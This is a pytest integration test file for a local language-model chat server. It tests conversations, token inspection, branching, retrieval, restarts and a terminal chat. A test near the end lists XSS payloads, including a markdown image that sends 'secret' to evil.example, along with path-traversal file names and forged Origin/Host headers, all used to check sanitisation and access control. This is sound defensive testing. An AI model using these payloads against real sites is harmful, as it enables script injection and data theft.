"""The page's conversations against a real server: said, answered, looked into, led another way, kept over a restart."""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path

import pytest
from tests.serving import Served, serving, tiny_model

from jielong.opening.tools import Equipment
from jielong.serve.models import Memory
from jielong.use.retrieval.library import Library

LONG = {"max_tokens": 400}


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("chats")
    tiny_model(folder / "tiny")
    notes = folder / "notes"
    notes.mkdir()
    (notes / "peru.md").write_text(
        "# Peru\n\nThe capital of Peru is Lima. Its currency is the sol.\n", encoding="utf-8"
    )
    library = Library(folder / "notes.db")
    library.add([notes])
    library.close()
    return folder


@pytest.fixture(scope="module")
def served(folder):
    with opened(folder) as found:
        yield found


class opened:
    """A server of the folder whose page is loaded; its store is the folder's own."""

    def __init__(self, folder: Path, **settings) -> None:
        means = Equipment(tools="calculator", library=folder / "notes.db")
        settings = {"memory": Memory(slots=4, length=512, weights="float32"), **settings}
        self.block = serving((str(folder / "tiny"),), folder, means=means, **settings)

    def __enter__(self) -> Served:
        served = self.block.__enter__()
        served.open_page()
        return served

    def __exit__(self, *what) -> None:
        self.block.__exit__(*what)


def sent(served: Served, method: str, path: str, body: dict | None = None, status: int = 200) -> dict:
    response = served.page.request(method, f"/api/{path}", json=body)
    assert response.status_code == status, response.text
    return response.json()


def begun(served: Served, **fields) -> dict:
    return sent(served, "POST", "conversations", {"sampling": {"max_tokens": 20}, **fields})


def said(served: Served, talk: dict, text: str = "What is the capital of Peru?", parent: str = "") -> tuple[dict, dict]:
    """A question, and the answer to it when it is over."""
    both = sent(served, "POST", f"conversations/{talk['id']}/turns", {"parent": parent, "text": text})
    name, done = served.events(both["answer"]["id"])[-1]
    assert name == "done"
    return both["question"], done


def test_an_answer_is_told_while_it_is_written_and_kept(served):
    talk = begun(served, sampling={"max_tokens": 30, "seed": 7})
    both = sent(served, "POST", f"conversations/{talk['id']}/turns", {"text": "What is the capital of Peru?"})
    events = served.events(both["answer"]["id"])
    done = events[-1][1]
    assert [name for name, _ in events].count("done") == 1 and events[-1][0] == "done"
    tokens = [token for name, data in events if name == "tokens" for token in data["tokens"]]
    assert [token["n"] for token in tokens] == list(range(len(tokens))) and len(tokens) == done["usage"][
        "completion_tokens"
    ]
    assert done["status"] == "done" and done["seed"] == 7 and done["has_tokens"] and done["usage"]["tokens_per_s"] > 0
    kept = sent(served, "GET", f"conversations/{talk['id']}")
    assert kept["conversation"]["title"] == "What is the capital of Peru?"
    assert kept["conversation"]["leaf"] == done["id"]
    assert [turn["role"] for turn in kept["turns"]] == ["user", "assistant"] and kept["turns"][1] == done
    assert served.events(done["id"]) == [("done", done)]


def test_who_comes_late_or_twice_is_told_from_the_beginning(served):
    talk = begun(served, sampling=LONG)
    both = sent(served, "POST", f"conversations/{talk['id']}/turns", {"text": "Tell"})
    first = served.events(both["answer"]["id"])
    second = served.events(both["answer"]["id"])
    assert first[-1] == second[-1]


def test_every_token_opens_with_its_draw_and_the_exact_prompt(served):
    talk = begun(served, system="Be brief.", sampling={"max_tokens": 12, "temperature": 0.7, "top_p": 0.9, "seed": 1})
    _, done = said(served, talk)
    lens = sent(served, "GET", f"turns/{done['id']}/tokens")
    prompt = "".join(token["text"] for token in lens["prompt"])
    assert "Be␣brief." in prompt and any(token["is_special"] for token in lens["prompt"])
    for token in lens["tokens"]:
        assert token["low"] <= token["uniform"] < token["high"] and token["by_model"]
        assert {c["filter"] for c in token["cuts"]} >= {"top-p"} and len(token["likeliest"]) == 20
        assert token["surprise"] >= 0 and token["entropy"] >= 0
    layers = sent(served, "GET", f"turns/{done['id']}/layers?n=0")["layers"]
    assert len(layers) == 3 and all(len(layer["likeliest"]) == 5 for layer in layers)
    assert layers[-1]["likeliest"][0]["id"] in [c["id"] for c in lens["tokens"][0]["likeliest"][:2]]
    again = sent(served, "GET", f"turns/{done['id']}/redraw")
    assert again == {
        "is_equal": True,
        "first_difference": None,
        "ids": [token["id"] for token in lens["tokens"]],
        "weights": "float32",
    }
    calls = sent(served, "GET", f"turns/{done['id']}/calls")
    assert calls["p_call"] + calls["p_answer"] == pytest.approx(1)


def test_another_token_leads_the_answer_another_way(served):
    talk = begun(served, sampling={"max_tokens": 12, "seed": 3})
    question, done = said(served, talk)
    before = sent(served, "GET", f"turns/{done['id']}/tokens")["tokens"]
    other = next(c for c in before[2]["likeliest"] if c["id"] != before[2]["id"])
    led = sent(served, "POST", f"turns/{done['id']}/branch", {"n": 2, "id": other["id"]})["answer"]
    assert led["parent"] == question["id"] and led["chosen"] == {"of": done["id"], "n": 2, "id": other["id"]}
    (_, after) = served.events(led["id"])[-1]
    tokens = sent(served, "GET", f"turns/{after['id']}/tokens")["tokens"]
    assert [t["id"] for t in tokens[:3]] == [before[0]["id"], before[1]["id"], other["id"]]
    assert tokens[:2] == before[:2] and not tokens[2]["by_model"] and tokens[2]["uniform"] is None
    assert all(token["by_model"] for token in tokens[3:]) and len(tokens) > 3
    refused = sent(served, "POST", f"turns/{done['id']}/branch", {"n": 999, "id": 5}, status=400)
    assert "tokens 0 to" in refused["error"]["message"]


def test_a_cut_answer_goes_on_where_it_ended(served):
    talk = begun(served, sampling={"max_tokens": 6, "seed": 3})
    _, done = said(served, talk)
    if done["stop"] != "length":
        pytest.skip("it came to its end by itself")
    more = sent(served, "POST", f"turns/{done['id']}/continue")["answer"]
    _, after = served.events(more["id"])[-1]
    ids = [[t["id"] for t in sent(served, "GET", f"turns/{one['id']}/tokens")["tokens"]] for one in (done, after)]
    assert ids[1][: len(ids[0])] == ids[0] and len(ids[1]) > len(ids[0])


def test_an_answer_is_stopped_with_what_there_is_of_it(served):
    talk = begun(served, sampling={"max_tokens": 480})
    both = sent(served, "POST", f"conversations/{talk['id']}/turns", {"text": "Tell a long story"})
    time.sleep(0.05)
    stopped = sent(served, "POST", f"turns/{both['answer']['id']}/stop")["answer"]
    assert stopped["status"] in ("stopped", "done")
    if stopped["status"] == "stopped" and stopped["text"]:
        assert stopped["has_tokens"]
    assert sent(served, "GET", f"conversations/{talk['id']}")["turns"][1]["status"] == stopped["status"]


def test_answers_to_a_question_are_siblings_and_edits_too(served):
    talk = begun(served)
    question, done = said(served, talk)
    again = sent(served, "POST", f"turns/{question['id']}/answers", {"sampling": {"temperature": 1.2}})["answer"]
    served.events(again["id"])
    edited = sent(served, "PATCH", f"turns/{done['id']}", {"text": "Lima."})["answer"]
    assert edited["is_edited"] and edited["text"] == "Lima."
    turns = sent(served, "GET", f"conversations/{talk['id']}")["turns"]
    assert [turn["parent"] for turn in turns] == ["", *[question["id"]] * 3]
    other, _ = said(served, talk, "And of France?", parent="")
    assert other["parent"] == "" and other["id"] != question["id"]
    below, _ = said(served, talk, "And its currency?", parent=edited["id"])
    assert below["parent"] == edited["id"]


def test_conversations_are_searched_changed_exported_imported_and_deleted(served):
    talk = begun(served, title="安第斯山")
    said(served, talk, "秘鲁的首都是什么？")
    found = sent(served, "GET", "conversations?search=第斯")["conversations"]
    assert [one["id"] for one in found] == [talk["id"]]
    changed = sent(served, "PATCH", f"conversations/{talk['id']}", {"title": "Peru", "system": "Be brief."})
    assert changed["title"] == "Peru" and changed["system"] == "Be brief."
    data = sent(served, "GET", f"conversations/{talk['id']}/export")
    copy = sent(served, "POST", "conversations/import", data)
    turns = sent(served, "GET", f"conversations/{copy['id']}")["turns"]
    assert copy["origin"] == "import" and turns[0]["text"] == "秘鲁的首都是什么？"
    assert sent(served, "GET", f"turns/{turns[1]['id']}/tokens")["tokens"]
    sent(served, "DELETE", f"conversations/{talk['id']}")
    assert served.page.get(f"/api/conversations/{talk['id']}").status_code == 404


def test_the_library_answers_with_passages_that_open(served):
    talk = begun(served, strategy="library")
    _, done = said(served, talk)
    (found,) = [item for item in done["trail"] if item["kind"] == "passages"]
    assert found["passages"][0]["title"].endswith("peru.md")
    opened_passage = sent(served, "GET", f"turns/{done['id']}/passages/1")
    assert "capital of Peru is Lima" in opened_passage["text"]


def test_files_are_added_to_the_library_and_removed(served, folder):
    response = served.page.post("/api/library/documents?name=../../tea.txt", content=b"Green tea wants 80 degrees.")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert lines[-1]["state"] == "done", lines
    documents = sent(served, "GET", "library")["documents"]
    (tea,) = [one for one in documents if one["title"] == "tea.txt"]
    assert Path(tea["path"]).parent == (folder / "notes-files").resolve() and tea["num_passages"] == 1
    talk = begun(served, strategy="library")
    _, done = said(served, talk, "How hot must green tea be?")
    assert any(item["kind"] == "passages" for item in done["trail"])
    assert served.page.delete(f"/api/library/documents/{tea['id']}").status_code == 200
    assert not Path(tea["path"]).exists()
    bad = served.page.post("/api/library/documents?name=x.pdf", content=b"no pdf")
    assert '"failed"' in bad.text.splitlines()[-1]


def test_a_strategy_shows_its_calls_on_the_way(served):
    talk = begun(served, strategy="vote:3")
    _, done = said(served, talk)
    calls = [item for item in done["trail"] if item["kind"] == "call"]
    assert len(calls) == 3 and all(call["is_over"] for call in calls) and done["usage"]["calls"] == 3
    assert done["has_tokens"]


def test_a_long_talk_is_shortened_and_says_so(served):
    talk = begun(served, sampling={"max_tokens": 4})
    parent = ""
    for n in range(4):
        _, done = said(served, talk, f"{n} " + "capital " * 160, parent=parent)
        parent = done["id"]
    assert any(item["kind"] == "dropped" for item in done["trail"])


def test_after_a_restart_an_answer_opens_as_it_was(folder):
    store = folder / "restarted.db"
    with opened(folder, store=store) as before:
        talk = begun(before, sampling={"max_tokens": 15, "seed": 11})
        _, done = said(before, talk)
        lens = sent(before, "GET", f"turns/{done['id']}/tokens")
    with opened(folder, store=store) as after:
        kept = sent(after, "GET", f"conversations/{talk['id']}")
        assert kept["turns"][1] == done
        assert sent(after, "GET", f"turns/{done['id']}/tokens") == lens
    assert store.stat().st_mode & 0o777 == 0o600


def test_an_answer_that_a_kill_cut_short_is_marked(folder):
    from jielong.serve.store import open_store

    with open_store(folder / "cut.db") as store:
        talk = store.add_talk(title="cut", model="tiny")
        store.add_question_and_answer(talk.id, "", "What?", "half an ans", model="tiny")
    with opened(folder, store=folder / "cut.db") as after:
        turns = sent(after, "GET", f"conversations/{talk.id}")["turns"]
        assert turns[1]["status"] == "interrupted" and turns[1]["text"] == "half an ans"


def test_models_are_compared_side_by_side(served):
    body = {"models": ["tiny", "tiny"], "prompt": "What is the capital of Peru?", "max_tokens": 6}
    text = served.page.post("/api/compare", json=body).text
    answers = [json.loads(line[6:]) for line in text.splitlines() if line.startswith("data: ") and '"model"' in line]
    assert len(answers) == 2 and answers[0]["text"] == answers[1]["text"]
    assert max(answers[1]["reading"]["divergences"]) < 1e-4


def test_the_page_needs_its_token_and_its_own_origin(served):
    token = served.page.headers.pop("X-CSRF-Token")
    try:
        assert served.page.post("/api/conversations", json={}).status_code == 403
    finally:
        served.page.headers["X-CSRF-Token"] = token
    assert served.page.post("/api/conversations", json={}, headers={"Origin": "http://evil.example"}).status_code == 403
    assert served.page.get("/api/state", headers={"Host": "evil.example"}).status_code == 421


def test_the_state_names_models_strategies_and_tools(served):
    state = sent(served, "GET", "state")
    assert state["models"][0]["name"] == "tiny" and state["models"][0]["has_lens"]
    assert {"library", "tools", "vote:5"} <= {one["spec"] for one in state["strategies"]}
    assert state["tools"][0]["name"] == "calculator" and state["library"]["num_documents"] >= 1


def test_a_text_is_cut_into_tokens(served):
    found = sent(served, "POST", "tokens", {"model": "tiny", "text": "The capital 首都"})["tokens"]
    assert "".join(token["text"] for token in found).startswith("The␣capital")


def test_a_runner_gives_several_loops_their_own_events(folder):
    from jielong.generate.runner import Runner
    from jielong.opening.models import open_engine
    from jielong.records import Conversation, Message, Sampling
    from jielong.use.port import LocalPort, Options

    engine, tokenizer = open_engine(folder / "tiny", slots=4)
    plain = LocalPort(engine, tokenizer)
    options = [Options(Sampling(max_tokens=10), seed) for seed in range(6)]
    talk = Conversation((Message("user", "What is the capital of Peru?"),))

    async def all_of(port: LocalPort):
        return [answer.ids for answer in await asyncio.gather(*(port.ask(talk, one) for one in options))]

    alone = asyncio.run(all_of(plain))
    runner = Runner(engine)
    try:
        assert asyncio.run(all_of(LocalPort(engine, tokenizer, writer=runner))) == alone
    finally:
        runner.close()


def test_a_talk_of_the_terminal_goes_on_and_opens_on_the_page(folder, monkeypatch, capsys):
    from jielong.cli.main import main

    home = folder / "home"
    monkeypatch.setenv("JIELONG_HOME", str(home))

    def talk(*lines: str, more: tuple[str, ...] = ()) -> str:
        said = iter([*lines, "/quit"])
        monkeypatch.setattr("builtins.input", lambda prompt: next(said))
        assert main(["chat", str(folder / "tiny"), "--max-tokens", "6", "--system", "Be brief.", *more]) == 0
        return capsys.readouterr().out

    talk("What is the capital of Peru?")
    out = talk("And its currency?", more=("--continue",))
    assert "you> What is the capital of Peru?" in out
    talk("Nothing of this", more=("--no-history",))
    with opened(folder, store=home / "conversations.db") as served:
        (found,) = sent(served, "GET", "conversations")["conversations"]
        turns = sent(served, "GET", f"conversations/{found['id']}")["turns"]
        assert found["origin"] == "terminal" and found["system"] == "Be brief."
        assert [turn["text"] for turn in turns if turn["role"] == "user"] == [
            "What is the capital of Peru?",
            "And its currency?",
        ]
        answers = [turn for turn in turns if turn["role"] == "assistant" and turn["has_tokens"]]
        lens = sent(served, "GET", f"turns/{answers[0]['id']}/tokens")
        assert len(lens["tokens"][0]["likeliest"]) == 20


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "```<script>\n</script><svg onload=alert(1)>\n```",
    "[1]: http://evil.example 'x'\n\n[a][1] <a href='data:text/html,x'>y</a>",
)


def test_what_others_wrote_reaches_the_page_as_text_or_as_html_without_teeth(served):
    """Titles, questions, corrected answers, thoughts and imports: only `html` is inserted as HTML, and it is harmless."""
    talk = begun(served, title=HOSTILE[1])
    question, done = said(served, talk, HOSTILE[0])
    for text in HOSTILE:
        edited = sent(served, "PATCH", f"turns/{done['id']}", {"text": text})["answer"]
        assert edited["text"] == text
        harmless(edited["html"])
    data = sent(served, "GET", f"conversations/{talk['id']}/export")
    copy = sent(served, "POST", "conversations/import", data)
    assert copy["title"] == HOSTILE[1]
    for turn in sent(served, "GET", f"conversations/{copy['id']}")["turns"]:
        harmless(turn["html"])
    assert question["html"] == ""


def harmless(html: str) -> None:
    """Nothing in it runs, and nothing is fetched but by a click."""
    low = html.lower()
    assert not any(tag in low for tag in ("<script", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<object"))
    assert "<img" not in low or 'src="data:image/' in low
    for tag in low.split("<")[1:]:
        inside = tag.partition(">")[0]
        assert " on" not in inside.replace(" only", "") or "=" not in inside.partition(" on")[2], inside
        assert "javascript:" not in inside and "data:text" not in inside, inside


def test_a_file_by_a_hostile_name_stays_in_its_folder_and_is_plain_text(served, folder):
    name = "..%2F..%2F%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E.txt"
    response = served.page.post(f"/api/library/documents?name={name}", content=b"Black tea wants boiling water.")
    assert '"done"' in response.text.splitlines()[-1]
    (found,) = [one for one in sent(served, "GET", "library")["documents"] if "onerror" in one["title"]]
    assert "<" not in found["title"] and Path(found["path"]).parent == (folder / "notes-files").resolve()
